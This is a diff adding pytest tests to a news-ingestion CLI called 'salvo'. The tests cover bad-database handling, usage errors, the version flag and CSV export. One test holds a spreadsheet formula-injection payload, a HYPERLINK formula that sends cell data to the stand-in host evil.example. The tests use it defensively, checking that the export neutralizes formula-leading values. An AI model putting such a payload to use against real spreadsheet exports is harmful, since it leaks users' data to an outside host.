@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import json
 import sqlite3
@@ -11,7 +12,9 @@ import pytest
 from conftest import query, salvo
 from typer.testing import CliRunner
 
+from pipeline import __version__
 from pipeline.cli import app
+from pipeline.export import spreadsheet_safe
 from pipeline.run.lock import RunLock
 
 runner = CliRunner()
@@ -66,6 +69,7 @@ def test_second_run_while_one_holds_the_lock_exits_75_and_changes_nothing(tmp_pa
 
 def test_db_commands(tmp_path):
     db = tmp_path / "s.db"
+    db.touch()  # an empty file is an empty SQLite database; a missing one is not made
     assert "database: empty" in salvo("db", "current", "--db", str(db)).stdout
     assert salvo("db", "check", "--db", str(db)).returncode == 1
     assert salvo("db", "upgrade", "--db", str(db)).returncode == 0
@@ -136,3 +140,83 @@ def test_follow_symlinks_option_reaches_discovery(tmp_path):
                      "--follow-symlinks")
     assert followed.returncode == 0, followed.stderr
     assert query(db, "SELECT count(*) FROM article_paths") == [(1,)]
+
+
+READERS = [["runs"], ["errors"], ["summary"], ["export"], ["export", "--format", "csv"],
+           ["sql", "SELECT 1"]]
+BAD_DATABASES = [  # (command, database): `db` commands read any SQLite file, upgrade makes one
+    *[(command, bad) for command in READERS for bad in ("garbage", "missing", "no-schema")],
+    *[(["db", name], bad) for name in ("current", "check") for bad in ("garbage", "missing")],
+    (["db", "upgrade"], "garbage")]
+
+
+def _bad_database(tmp_path, kind: str):
+    db = tmp_path / "bad.db"
+    if kind == "garbage":
+        db.write_bytes(b"not a database, just some bytes " * 200)
+    elif kind == "no-schema":
+        with sqlite3.connect(db) as conn:
+            conn.execute("CREATE TABLE other (x)")
+    return db
+
+
+@pytest.mark.parametrize(("command", "kind"), BAD_DATABASES,
+                         ids=[f"{' '.join(c)}-{k}" for c, k in BAD_DATABASES])
+def test_bad_database_is_one_line_and_exit_3_never_a_traceback(tmp_path, command, kind):
+    db = _bad_database(tmp_path, kind)
+    result = runner.invoke(app, [*command, "--db", str(db)])
+    assert result.exit_code == 3, result.output
+    assert isinstance(result.exception, SystemExit)
+    assert len(result.output.strip().splitlines()) == 1, result.output
+    assert result.output.startswith("salvo: ")
+    assert db.exists() == (kind != "missing")  # never made
+
+
+def test_db_current_on_a_misspelt_name_does_not_create_the_file(tmp_path):
+    result = runner.invoke(app, ["db", "current", "--db", str(tmp_path / "typo.db")])
+    assert result.exit_code == 3
+    assert "no database at" in result.output
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_missing_input_path_is_a_usage_error(tmp_path, corpus):
+    db = tmp_path / "s.db"
+    result = runner.invoke(app, ["ingest", str(corpus), str(tmp_path / "nope"), "--db", str(db)])
+    assert result.exit_code == 2
+    assert result.output == f"salvo: no such file or folder: {tmp_path / 'nope'}\n"
+    assert not db.exists()
+
+
+def test_output_file_that_cannot_be_written_is_a_usage_error(demo_db, tmp_path):
+    out = tmp_path / "no" / "such" / "folder" / "events.csv"
+    result = runner.invoke(app, ["export", "--db", str(demo_db), "--out", str(out)])
+    assert result.exit_code == 2
+    assert result.output.startswith(f"salvo: cannot write {out}: No such file or directory")
+
+
+def test_version():
+    result = runner.invoke(app, ["--version"])
+    assert (result.exit_code, result.output) == (0, f"salvo {__version__}\n")
+
+
+def test_csv_export_defuses_spreadsheet_formulas(tmp_path):
+    folder, db, out = tmp_path / "in", tmp_path / "s.db", tmp_path / "events.csv"
+    folder.mkdir()
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Germany sends tanks")'
+    (folder / "story.html").write_text(
+        f"<html><head><title>{html.escape(title)}</title></head><body><article>"
+        f"<h1>{html.escape(title)}</h1><p>Germany delivered 18 Leopard 2 tanks to Ukraine on "
+        "Monday, the defence ministry in Berlin said in a statement to reporters.</p><p>The "
+        "tanks arrived by rail after weeks of training for their crews, officials said.</p>"
+        "</article></body></html>")
+    assert salvo("ingest", str(folder), "--db", str(db), "--workers", "1").returncode == 0
+    assert salvo("export", "--db", str(db), "--format", "csv", "--out", str(out)).returncode == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert rows and all(row["title"] == "'" + title for row in rows)
+    assert ("Germany", "18") in {(row["supplier"], row["quantity"]) for row in rows}
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"])
+def test_every_formula_start_is_defused(value):
+    assert spreadsheet_safe(value) == "'" + value
+    assert spreadsheet_safe(-2) == -2 and spreadsheet_safe("Germany") == "Germany"
